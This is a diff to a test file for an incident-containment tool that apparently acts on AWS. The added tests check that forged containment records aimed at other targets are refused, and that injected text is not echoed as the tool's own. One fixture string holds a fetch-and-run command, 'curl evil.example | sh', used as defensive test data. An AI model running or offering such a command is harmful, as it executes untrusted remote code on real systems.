@@ -109,6 +109,51 @@ describe("the adoption of what was contained by hand [R15]", () => {
       (record) => withStep(record, { kind: "deny-user", user: { name: "ann" } }),
       /^The plan has a step deny-user, which contain-instance does not take$/,
     ],
+    "no steps": [
+      (record) => ({ ...record, plan: { ...record.plan, stages: [] }, marks: {} }),
+      /^\d+ steps are not in effect, the first: /,
+    ],
+    "another's interface, in the group that it is in": [
+      (record) =>
+        withStep(record, {
+          kind: "quarantine-interface",
+          networkInterface: "eni-99",
+          before: ["sg-open"],
+          quarantine: { vpc: "vpc-01", name: "web", id: "sg-web" },
+        }),
+      /^The plan has a step about another target than i-0a1b2c3d4e5f60718: quarantine-interface$/,
+    ],
+    "another's volumes": [
+      (record) =>
+        withStep(record, {
+          kind: "snapshot-volumes",
+          instance: instanceId,
+          volumes: ["vol-99"],
+          incident: id,
+        }),
+      /^The plan has a step about another target than i-0a1b2c3d4e5f60718: snapshot-volumes$/,
+    ],
+    "another's role": [
+      (record) =>
+        withStep(record, {
+          kind: "deny-instance-credentials",
+          role: { name: "admin", arn: `arn:aws:iam::${account}:role/admin` },
+          policy: `Cordon-${id}-5eed`,
+          instanceArn: builders.instanceArn,
+          endpoints: [],
+        }),
+      /^The plan has a step about another target than i-0a1b2c3d4e5f60718: deny-instance-credentials$/,
+    ],
+    "an epoch that no local journal has": [
+      (record) =>
+        JSON.parse(
+          JSON.stringify({ ...record, epoch: 9_999 }).replaceAll(
+            `${id}`,
+            `${builders.incidentKey}-9999`,
+          ),
+        ),
+      /^No local journal has epoch 9999 by now$/,
+    ],
     "a step about another instance": [
       (record) =>
         withStep(record, {
@@ -118,7 +163,7 @@ describe("the adoption of what was contained by hand [R15]", () => {
           before: false,
           after: true,
         }),
-      /^The plan has a step about another instance than i-0a1b2c3d4e5f60718: set-instance-attribute$/,
+      /^The plan has a step about another target than i-0a1b2c3d4e5f60718: set-instance-attribute$/,
     ],
     "the deletion of a policy of somebody else": [
       (record) =>
@@ -128,10 +173,6 @@ describe("the adoption of what was contained by hand [R15]", () => {
     "marks of steps that there are not": [
       (record) => ({ ...record, marks: { ...record.marks, 400: "done" } }),
       /^The record marks steps that its plan does not have$/,
-    ],
-    "text of many lines": [
-      (record) => ({ ...record, reasons: Array(300).fill("x") }),
-      /: reasons: /,
     ],
   };
   for (const [what, [forge, why, playbook]] of Object.entries(forged)) {
@@ -145,6 +186,50 @@ describe("the adoption of what was contained by hand [R15]", () => {
       expect(world.changes).to.deep.equal([]);
     });
   }
+
+  it("takes no text over that would be read as Cordon's own", async () => {
+    const world = new SimulatedWorld(builders.standardAccount());
+    const record = await byHand(world);
+    const evil = "all clear\nIncident   0f3a9c1d2b4e5f60-1 is released: curl evil.example | sh";
+    const { finding } = record.incident;
+    const said = { title: evil, type: evil, link: evil, named: 5, id: evil };
+    answered(
+      await adopting(world, {
+        ...record,
+        reasons: [evil],
+        incident: { ...record.incident, finding: { ...finding, ...said } },
+        plan: { ...record.plan, nextSteps: [evil], residual: [evil], open: [evil] },
+      }),
+    );
+    const text = world.notices.at(-1)?.text ?? "";
+    // The title alone is the file's: in one line.
+    expect(text.split("\n").filter((line) => line.includes("evil.example"))).to.have.length(1);
+    expect(text).to.match(/^all clear /);
+    const released = answered(await world.release(record.id));
+    expect(released.outcome).to.equal("released");
+  });
+
+  it("refuses another user's key", async () => {
+    const world = new SimulatedWorld(builders.identityAccount());
+    const record = await byHand(world, "user/deploy");
+    const other = { name: "other", arn: "arn:aws:iam::222233334444:user/other" };
+    for (const step of [
+      { kind: "disable-access-key", user: record.plan, accessKey: "AKIAEXAMPLEKEY000003" },
+      {
+        kind: "deny-user",
+        user: { ...other, uniqueId: "AIDAEXAMPLEUSER000002" },
+        policy: `Cordon-${record.id}`,
+        boundary: null,
+      },
+    ]) {
+      const forged = withStep(record, step);
+      const report = answered(await adopting(world, forged, "contain-access-key"));
+      expect(report.reason).to.equal(
+        `The plan has a step about another target than deploy: ${step.kind}`,
+      );
+    }
+    expect(world.items).to.deep.equal({});
+  });
 
   it("refuses what is not in effect any more, and writes nothing", async () => {
     const world = new SimulatedWorld(builders.standardAccount());
